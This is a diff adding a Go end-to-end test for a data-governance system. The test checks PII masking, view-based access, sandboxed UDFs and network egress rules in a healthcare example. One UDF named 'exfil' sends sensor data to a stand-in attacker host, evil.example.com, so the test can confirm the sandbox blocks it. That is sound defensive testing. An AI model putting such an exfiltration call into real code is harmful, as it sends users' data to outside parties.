@@ -1,0 +1,127 @@
+package core
+
+import (
+	"strings"
+	"testing"
+
+	"lakeguard/internal/catalog"
+	"lakeguard/internal/connect"
+	"lakeguard/internal/sandbox"
+	"lakeguard/internal/storage"
+	"lakeguard/internal/types"
+	"net/http/httptest"
+)
+
+// TestMotivatingExample reproduces the paper's §2.1 healthcare scenario end
+// to end (Figures 1–3): sensitive patient data, a PII-filtering view for
+// data scientists, sandboxed UDF feature extraction, and uniform enforcement
+// across SQL / DataFrame / UDF workloads.
+func TestMotivatingExample(t *testing.T) {
+	const (
+		adminU = "admin@healthco"
+		ds     = "datasci@healthco"
+		md     = "clinician@healthco"
+	)
+	cat := catalog.New(storage.NewStore(), nil)
+	cat.AddAdmin(adminU)
+	cat.CreateGroup("clinicians", md)
+	srv := NewServer(Config{
+		Name: "healthco", Catalog: cat,
+		Sandbox: sandbox.Config{
+			Egress: sandbox.EgressPolicy{
+				AllowedHosts: []string{"example.aqi.com"},
+				Resolver:     func(string) (string, error) { return `{"yesterday": 41.5}`, nil },
+			},
+		},
+	})
+	toks := connect.TokenMap{"t-admin": adminU, "t-ds": ds, "t-md": md}
+	ts := httptest.NewServer(connect.NewService(srv, toks).Handler())
+	defer ts.Close()
+
+	adminC := connect.Dial(ts.URL, "t-admin")
+	for _, stmt := range []string{
+		`CREATE TABLE raw_data_table (patient_id BIGINT, patient_name STRING, zip STRING, heart_rate DOUBLE, sensor_blob STRING)`,
+		`INSERT INTO raw_data_table VALUES
+			(1, 'Ada Lovelace', '94105', 62.0, '0.41;0.39;0.44'),
+			(2, 'Grace Hopper', '10001', 58.0, '0.33;0.30;0.31'),
+			(3, 'Alan Turing',  '94105', 80.0, '0.61;0.66;0.64')`,
+		`CREATE VIEW sensor_view AS SELECT patient_id, zip, heart_rate, sensor_blob FROM raw_data_table`,
+		`GRANT SELECT ON sensor_view TO 'datasci@healthco'`,
+		`ALTER TABLE raw_data_table ALTER COLUMN patient_name SET MASK
+			'CASE WHEN IS_ACCOUNT_GROUP_MEMBER(''clinicians'') THEN patient_name ELSE ''<redacted>'' END'`,
+		`GRANT SELECT ON raw_data_table TO 'clinician@healthco'`,
+	} {
+		if _, err := adminC.ExecSQL(stmt); err != nil {
+			t.Fatalf("%s: %v", stmt, err)
+		}
+	}
+
+	dsC := connect.Dial(ts.URL, "t-ds")
+	// 1. Raw table denied to data scientists.
+	if _, err := dsC.Table("raw_data_table").Collect(); err == nil {
+		t.Fatal("data scientist reached raw PII table")
+	}
+	// 2. The dedicated view exposes sensor data, no PII column exists.
+	schema, err := dsC.Table("sensor_view").Schema()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if schema.IndexOf("patient_name") >= 0 {
+		t.Fatal("PII column leaked into sensor_view")
+	}
+	// 3. Domain UDF feature extraction over the view (Fig. 1) — sandboxed.
+	if err := dsC.RegisterFunction("first_sample",
+		[]types.Field{{Name: "blob", Kind: types.KindString}},
+		types.KindFloat64, "return float(substr(blob, 0, 4))"); err != nil {
+		t.Fatal(err)
+	}
+	b, err := dsC.Sql("SELECT patient_id, first_sample(sensor_blob) AS amp FROM sensor_view ORDER BY amp DESC").Collect()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b.NumRows() != 3 || b.Cols[1].Float64(0) != 0.61 {
+		t.Fatalf("feature extraction wrong:\n%s", b.String())
+	}
+	if srv.Dispatcher().Stats().ColdStarts == 0 {
+		t.Fatal("UDF did not run isolated")
+	}
+	// 4. PII never appears in anything the data scientist receives, in
+	// either workload style.
+	for _, q := range []string{
+		"SELECT * FROM sensor_view",
+		"SELECT zip, COUNT(*) AS n FROM sensor_view GROUP BY zip",
+	} {
+		out, err := dsC.Sql(q).Collect()
+		if err != nil {
+			t.Fatalf("%s: %v", q, err)
+		}
+		if strings.Contains(out.String(), "Lovelace") {
+			t.Fatalf("PII leaked via %q", q)
+		}
+	}
+	// 5. Egress-gated external service (Fig. 6): allowed host works, other
+	// hosts are blocked by the sandbox network policy.
+	if err := dsC.RegisterFunction("aqi", []types.Field{{Name: "zip", Kind: types.KindString}},
+		types.KindString, "return http_get('http://example.aqi.com/zip/' + zip)"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := dsC.Sql("SELECT aqi(zip) FROM sensor_view LIMIT 1").Collect(); err != nil {
+		t.Fatalf("allowed egress failed: %v", err)
+	}
+	if err := dsC.RegisterFunction("exfil", []types.Field{{Name: "blob", Kind: types.KindString}},
+		types.KindString, "return http_get('http://evil.example.com/?d=' + blob)"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := dsC.Sql("SELECT exfil(sensor_blob) FROM sensor_view LIMIT 1").Collect(); err == nil {
+		t.Fatal("exfiltration egress was not blocked")
+	}
+	// 6. Clinicians see unmasked names on the same compute.
+	mdC := connect.Dial(ts.URL, "t-md")
+	names, err := mdC.Sql("SELECT patient_name FROM raw_data_table ORDER BY patient_name LIMIT 1").Collect()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if names.Cols[0].StringAt(0) != "Ada Lovelace" {
+		t.Fatalf("clinician should see raw names: %q", names.Cols[0].StringAt(0))
+	}
+}
